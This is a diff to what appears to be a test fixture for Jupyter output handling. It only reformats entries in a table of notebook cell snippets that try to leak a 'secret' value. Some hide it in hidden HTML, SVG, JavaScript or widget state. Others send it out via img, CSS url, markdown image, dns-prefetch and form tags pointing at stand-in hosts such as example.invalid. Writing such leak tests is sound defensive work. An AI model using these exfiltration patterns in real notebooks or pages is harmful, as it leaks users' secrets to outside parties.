@@ -46,7 +46,8 @@ SAID: dict[int, tuple[str | Ask | tuple[str | Ask, ...], ...]] = {
         "plt.imshow(np.array(bits).reshape(16, 16)); plt.show()",
     ),
     11: ("display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><text fill=\"none\">' + secret.hex() + '</text></svg>'))",),
-    12: ("HTML('<!-- ' + $E + ' --><div hidden data-k=\"' + secret.hex() + '\">x</div>')", "HTML('<table>' + '<tr><td>x' * int(secret[0]) + '</table>')"),
+    12: ("HTML('<!-- ' + $E + ' --><div hidden data-k=\"' + secret.hex() + '\">x</div>')",
+         "HTML('<table>' + '<tr><td>x' * int(secret[0]) + '</table>')"),
     13: (
         "Javascript('var k = \"' + secret.hex() + '\"')",
         "publish_display_data({'application/vnd.vega.v5+json': {'data': [{'values': bits}]}, 'text/plain': ''})",
@@ -59,7 +60,8 @@ SAID: dict[int, tuple[str | Ask | tuple[str | Ask, ...], ...]] = {
         "Audio(np.array(bits, dtype=float), rate=8000)",
     ),
     15: (
-        "HTML('<img src=\"https://example.invalid/?q=' + secret.hex() + '\"><style>a{background:url(//x.invalid/' + secret.hex() + ')}</style>')",
+        "HTML('<img src=\"https://example.invalid/?q=' + secret.hex() + '\">"
+        "<style>a{background:url(//x.invalid/' + secret.hex() + ')}</style>')",
         "Markdown('[a](https://example.invalid/' + secret.hex() + ') ![](//x.invalid/' + secret.hex() + ')')",
         "HTML('<link rel=\"dns-prefetch\" href=\"//' + secret.hex()[:40] + '.invalid\"><form action=\"//x.invalid\"></form>')",
     ),
@@ -84,6 +86,7 @@ SAID: dict[int, tuple[str | Ask | tuple[str | Ask, ...], ...]] = {
         "s_$K = [w.Text(str(b)) for b in bits[:4]]; [each.close() for each, b in zip(s_$K, bits) if b]; None",
         "from comm import create_comm; c_$K = create_comm(target_name='t' + secret.hex(), data={'k': $E}, buffers=[secret]); c_$K.send($E)",
     ),
-    22: (("v_$K = w.Text(description='state'); v_$K.value = secret.hex(); display(v_$K)", Ask("shell", "comm_info_request", {"target_name": "jupyter.widget"})),),
+    22: (("v_$K = w.Text(description='state'); v_$K.value = secret.hex(); display(v_$K)",
+          Ask("shell", "comm_info_request", {"target_name": "jupyter.widget"})),),
 }
 """By number, the ways in which each kind is tried; a way is one cell, or cells and requests in order."""
